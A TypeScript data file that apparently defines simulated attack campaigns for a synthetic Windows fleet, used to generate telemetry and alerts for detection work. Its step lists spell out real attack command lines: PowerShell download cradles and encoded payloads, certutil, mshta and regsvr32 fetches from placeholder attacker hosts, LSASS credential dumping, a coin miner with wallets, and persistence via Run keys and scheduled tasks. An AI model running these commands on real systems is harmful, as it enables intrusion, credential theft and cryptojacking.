/**
 * Attack campaigns of the synthetic fleet, as data. Each kind is a script of steps run in the
 * attacker's logon session; `{X}` placeholders are filled per campaign from VARIANTS (so two
 * campaigns of a kind differ), and `gap` is the random pause before a step, in seconds.
 */

export type CampaignKind =
  | 'ftp-cacls-script'
  | 'regini-secedit-script'
  | 'rdp-bruteforce-recon'
  | 'ps-cradle-runkey'
  | 'credential-dumping'
  | 'coin-miner'
  | 'psexec-lateral'
  | 'lolbin-proxy';

export interface AttackStep {
  readonly image: string;
  readonly parent: string;
  readonly command: string;
  /** Pause before this step, seconds [min, max]. */
  readonly gap: readonly [number, number];
  /** A detection that may fire on this step. */
  readonly alert?: { readonly name: string; readonly severity: 'Low' | 'Medium' | 'High'; readonly probability: number };
}

export interface CampaignKindSpec {
  readonly kind: CampaignKind;
  /** How the attacker is logged on: an RDP logon (type 10) from a rare address, a network logon
   *  (type 3) from another host of the fleet, or the host owner's own session (phishing). */
  readonly access: 'rdp' | 'network' | 'owner';
  /** Roles it targets. */
  readonly targets: 'server' | 'workstation' | 'any';
  /** Probability that the whole script runs a second time a few minutes later. */
  readonly repeatProbability: number;
  readonly steps: readonly AttackStep[];
}

const S = 'C:\\Windows\\System32';
const PS = `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`;

export const CAMPAIGN_KINDS: readonly CampaignKindSpec[] = [
  {
    kind: 'ftp-cacls-script',
    access: 'rdp',
    targets: 'server',
    repeatProbability: 0.5,
    steps: [
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\windows\\system32\\ftp.exe" -s:C:\\WINDOWS\\system32\\{DAT}.dat', gap: [5, 40], alert: { name: 'Suspicious FTP script execution', severity: 'Medium', probability: 0.3 } },
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: 'ftp -s:{EXE}.exe', gap: [3, 8] },
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: 'ftp -s:c:\\RECYCLER\\{EXE}.exe', gap: [0, 1] },
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: 'ftp -s:c:\\{EXE}.exe', gap: [0, 2] },
      { image: `${S}\\net.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\net.exe" stop CryptSvc', gap: [5, 15] },
      { image: `${S}\\regsvr32.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\regsvr32.exe" urlmon.dll shdocvw.dll jscript.dll vbscript.dll /s', gap: [0, 1] },
      { image: `${S}\\cacls.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\cacls.exe" C:\\Windows\\system32\\wscript.exe /e /t /g SYSTEM:F', gap: [0, 1], alert: { name: 'Detected suspicious use of Cacls to lower the security state of the system', severity: 'Medium', probability: 0.8 } },
      { image: `${S}\\cacls.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\cacls.exe" C:\\Windows\\system32\\cscript.exe /e /t /g SYSTEM:F', gap: [0, 1] },
      { image: `${S}\\net.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\net.exe" localgroup administrators {ACCT}$/add', gap: [0, 1] },
      { image: `${S}\\reg.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\reg.exe" ADD "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 00000000 /f', gap: [0, 1] },
    ],
  },
  {
    kind: 'regini-secedit-script',
    access: 'rdp',
    targets: 'server',
    repeatProbability: 0.6,
    steps: [
      { image: `${S}\\regini.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\regini.exe" c:\\windows\\system32\\1025\\run.ini', gap: [5, 30], alert: { name: 'Unusual process execution detected', severity: 'Medium', probability: 0.6 } },
      { image: `${S}\\SecEdit.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\SecEdit.exe" /configure /cfg "C:\\WINDOWS\\system32\\NewAuto.inf" /db newdb.sdb /log logfile.txt /areas REGKEYS FILESTORE', gap: [5, 10] },
      { image: `${S}\\cacls.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\cacls.exe" cmd.exe /e /t /g system:f', gap: [8, 15], alert: { name: 'Detected suspicious use of Cacls to lower the security state of the system', severity: 'Medium', probability: 0.7 } },
      { image: `${S}\\net.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\net.exe" stop CryptSvc', gap: [15, 25] },
      { image: `${S}\\regsvr32.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\regsvr32.exe" urlmon.dll shdocvw.dll jscript.dll vbscript.dll /s', gap: [0, 1] },
      { image: `${S}\\regsvr32.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\regsvr32.exe" urlmon.dll shdocvw.dll jscript.dll vbscript.dll /s', gap: [0, 1] },
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\ftp.exe" -s:C:\\{DLL}.dll', gap: [8, 12] },
      { image: `${S}\\schtasks.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\System32\\schtasks.exe" /create /tn "{TASKNUM}" /tr "c:\\{EXE}.exe" /sc minute /mo 1 /ru "system', gap: [0, 2], alert: { name: 'Suspicious scheduled task creation', severity: 'Medium', probability: 0.4 } },
      { image: `${S}\\cmd.exe`, parent: `${S}\\cmd.exe`, command: '"C:\\Windows\\system32\\cmd.exe" /c net1 stop sharedaccess&echo open {IP}> {DLL2}.dll&echo {ACCT}>> {DLL2}.dll&echo get {EXE}.exe>> {DLL2}.dll&echo bye>> {DLL2}.dll&ftp -s:{DLL2}.dll&{EXE}.exe', gap: [0, 2] },
      { image: `${S}\\ftp.exe`, parent: `${S}\\cmd.exe`, command: 'ftp  -s:{DLL2}.dll', gap: [0, 1] },
    ],
  },
  {
    kind: 'rdp-bruteforce-recon',
    access: 'rdp',
    targets: 'server',
    repeatProbability: 0,
    steps: [
      { image: `${S}\\whoami.exe`, parent: `${S}\\cmd.exe`, command: 'whoami /all', gap: [20, 90], alert: { name: 'Successful RDP logon after brute force', severity: 'High', probability: 0.7 } },
      { image: `${S}\\net.exe`, parent: `${S}\\cmd.exe`, command: 'net group "domain admins" /domain', gap: [5, 40], alert: { name: 'Suspicious account enumeration', severity: 'Medium', probability: 0.5 } },
      { image: `${S}\\nltest.exe`, parent: `${S}\\cmd.exe`, command: 'nltest /dclist:{DOMAIN}', gap: [5, 30] },
      { image: `${S}\\quser.exe`, parent: `${S}\\cmd.exe`, command: 'quser', gap: [3, 20] },
      { image: `${S}\\net.exe`, parent: `${S}\\cmd.exe`, command: 'net view \\\\{HOSTN} /all', gap: [5, 40] },
      { image: `${S}\\systeminfo.exe`, parent: `${S}\\cmd.exe`, command: 'systeminfo', gap: [3, 20] },
    ],
  },
  {
    kind: 'ps-cradle-runkey',
    access: 'owner',
    targets: 'workstation',
    repeatProbability: 0.2,
    steps: [
      { image: PS, parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', command: 'powershell.exe -nop -w hidden -enc {B64}', gap: [5, 60], alert: { name: 'Suspicious PowerShell command line', severity: 'High', probability: 0.8 } },
      { image: PS, parent: PS, command: 'powershell -noP -sta -w 1 -c "IEX (New-Object Net.WebClient).DownloadString(\'http://{IP}:{PORT}/{PAGE}\')"', gap: [2, 10] },
      { image: `${S}\\reg.exe`, parent: PS, command: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {RUNNAME} /t REG_SZ /d "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -nop -enc {B64}" /f', gap: [5, 30], alert: { name: 'Suspicious persistence via Run key', severity: 'Medium', probability: 0.5 } },
      { image: `${S}\\whoami.exe`, parent: PS, command: '"C:\\Windows\\system32\\whoami.exe" /user', gap: [10, 60] },
    ],
  },
  {
    kind: 'credential-dumping',
    access: 'rdp',
    targets: 'any',
    repeatProbability: 0.2,
    steps: [
      { image: `${S}\\cmd.exe`, parent: 'C:\\Windows\\explorer.exe', command: '"C:\\Windows\\system32\\cmd.exe" ', gap: [30, 300] },
      { image: 'C:\\ProgramData\\{DIR}\\procdump64.exe', parent: `${S}\\cmd.exe`, command: 'procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\{DIR}\\{DUMP}.dmp', gap: [10, 60], alert: { name: 'Credential dumping activity detected', severity: 'High', probability: 0.7 } },
      { image: `${S}\\rundll32.exe`, parent: `${S}\\cmd.exe`, command: 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {LSASSPID} C:\\ProgramData\\{DIR}\\{DUMP}2.dmp full', gap: [10, 90], alert: { name: 'Credential dumping activity detected', severity: 'High', probability: 0.5 } },
      { image: `${S}\\makecab.exe`, parent: `${S}\\cmd.exe`, command: 'makecab C:\\ProgramData\\{DIR}\\{DUMP}.dmp C:\\ProgramData\\{DIR}\\{DUMP}.cab', gap: [5, 30] },
    ],
  },
  {
    kind: 'coin-miner',
    access: 'rdp',
    targets: 'server',
    repeatProbability: 0.3,
    steps: [
      { image: `${S}\\certutil.exe`, parent: `${S}\\cmd.exe`, command: 'certutil.exe -urlcache -split -f http://{IP}/{EXE}.exe C:\\ProgramData\\{EXE}.exe', gap: [10, 120], alert: { name: 'Suspicious download using Certutil', severity: 'Medium', probability: 0.7 } },
      { image: `${S}\\schtasks.exe`, parent: `${S}\\cmd.exe`, command: 'schtasks /create /tn "\\Microsoft\\Windows\\{TASK}" /tr "C:\\ProgramData\\{EXE}.exe -o stratum+tcp://{POOL}:{PORT} -u {WALLET} -p x --donate-level 1" /sc onstart /ru SYSTEM /f', gap: [5, 30], alert: { name: 'Suspicious scheduled task creation', severity: 'Medium', probability: 0.4 } },
      { image: 'C:\\ProgramData\\{EXE}.exe', parent: `${S}\\svchost.exe`, command: 'C:\\ProgramData\\{EXE}.exe -o stratum+tcp://{POOL}:{PORT} -u {WALLET} -p x --donate-level 1 --cpu-max-threads-hint 75', gap: [20, 90], alert: { name: 'Unusual process execution detected', severity: 'Medium', probability: 0.5 } },
      { image: `${S}\\attrib.exe`, parent: `${S}\\cmd.exe`, command: 'attrib +h +s C:\\ProgramData\\{EXE}.exe', gap: [2, 10] },
    ],
  },
  {
    kind: 'psexec-lateral',
    access: 'network',
    targets: 'any',
    repeatProbability: 0.2,
    steps: [
      { image: `${S}\\cmd.exe`, parent: `${S}\\services.exe`, command: 'C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b=\'powershell.exe\'}else{$b=$env:windir+\'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe\'};$s=New-Object System.Diagnostics.ProcessStartInfo"', gap: [1, 5], alert: { name: 'Suspicious remote service execution', severity: 'High', probability: 0.5 } },
      { image: PS, parent: `${S}\\cmd.exe`, command: 'powershell  -noP -sta -w 1 -enc  {B64}', gap: [0, 2], alert: { name: 'Suspicious PowerShell command line', severity: 'High', probability: 0.6 } },
      { image: `${S}\\whoami.exe`, parent: PS, command: '"C:\\windows\\system32\\whoami.exe" /user', gap: [30, 300] },
      { image: `${S}\\net.exe`, parent: PS, command: '"C:\\windows\\system32\\net.exe" localgroup administrators', gap: [5, 60] },
    ],
  },
  {
    kind: 'lolbin-proxy',
    access: 'owner',
    targets: 'workstation',
    repeatProbability: 0.3,
    steps: [
      { image: `${S}\\mshta.exe`, parent: 'C:\\Windows\\explorer.exe', command: 'mshta.exe http://{IP}/{PAGE}.hta', gap: [5, 60], alert: { name: 'Suspicious use of LOLBin for proxy execution', severity: 'Medium', probability: 0.6 } },
      { image: `${S}\\regsvr32.exe`, parent: `${S}\\mshta.exe`, command: 'regsvr32.exe /s /n /u /i:http://{IP}/{PAGE}.sct scrobj.dll', gap: [2, 20], alert: { name: 'Suspicious use of LOLBin for proxy execution', severity: 'Medium', probability: 0.5 } },
      { image: `${S}\\rundll32.exe`, parent: `${S}\\mshta.exe`, command: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{IP}/{PAGE}.js")', gap: [2, 30] },
      { image: `${S}\\cmd.exe`, parent: `${S}\\rundll32.exe`, command: 'cmd.exe /c copy %TEMP%\\{EXE}.tmp %APPDATA%\\{EXE}.exe & %APPDATA%\\{EXE}.exe', gap: [2, 30] },
    ],
  },
];

/** Per-campaign variants: each placeholder takes one value per campaign. */
export const VARIANTS: Readonly<Record<string, readonly string[]>> = {
  DAT: ['us', 'ftpcmd', 'sys32', 'svc', 'up'],
  EXE: ['xpoffice', 'svchosts', 'Ttqlhcjntzllto', 'winupd', 'msdtc32', 'csrss64', 'taskmgrs', 'xmrig'],
  DLL: ['MG05', 'MG07', 'AB12', 'K4'],
  DLL2: ['MG06', 'MG08', 'AB13', 'K5'],
  ACCT: ['abai', 'support', 'helpdesk1', 'sqlbak'],
  TASKNUM: ['45645', '31337', '10086', '77321'],
  TASK: ['UpdateCheck', 'SvcHealth', 'Maintenance\\SysCheck', 'Defrag\\ScheduledDefrag2'],
  IP: ['45.137.21.9', '185.222.58.11', '91.92.109.40', '103.75.190.12', '194.165.16.77'],
  POOL: ['pool.supportxmr.com', 'xmr.pool.minergate.com', 'gulf.moneroocean.stream'],
  PORT: ['3333', '4444', '8080', '443', '14444'],
  WALLET: ['44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'],
  B64: [
    'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAxADYAOAAuADUANgAuADEAMAAvAGEAJwApAA==',
    'SQBGACgAJABQAFMAVgBlAFIAcwBpAE8ATgBUAEEAQgBMAGUALgBQAFMAVgBlAHIAUwBJAE8ATgAuAE0AQQBKAG8AUgAgAC0ARwBFACAAMwApAHsAJABDADMAMgAyAD0AWwByAGUAZgBdAC4AQQBzAHMARQBNAEIAbABZAC4ARwBlAHQAVAB5AHAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAFUAdABpAGwAcwAnACkA',
    'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8AYwBrAGUAdABzAC4AVABDAFAAQwBsAGkAZQBuAHQAKAAnADEAMAAuADAALgAwAC4AMQAnACwANAA0ADMAKQA7AA==',
  ],
  PAGE: ['admin/get.php', 'news.php', 'login/process.php', 'update', 'a'],
  RUNNAME: ['OneDriveUpdate', 'SecurityHealth2', 'AdobeUpd', 'WindowsDefenderSvc'],
  DIR: ['perflogs', 'temp1', 'MSUpdate', 'Dell'],
  DUMP: ['lsass', 'out', 'debug', 'mem'],
  LSASSPID: ['644', '652', '688', '720', '736'],
};

/** Source addresses an attacker's RDP logon comes from: rare, outside the fleet. */
export const ATTACKER_SOURCES = ['185.220.101.7', '45.155.205.233', '193.142.146.35', '89.248.165.52', '141.98.11.20'] as const;
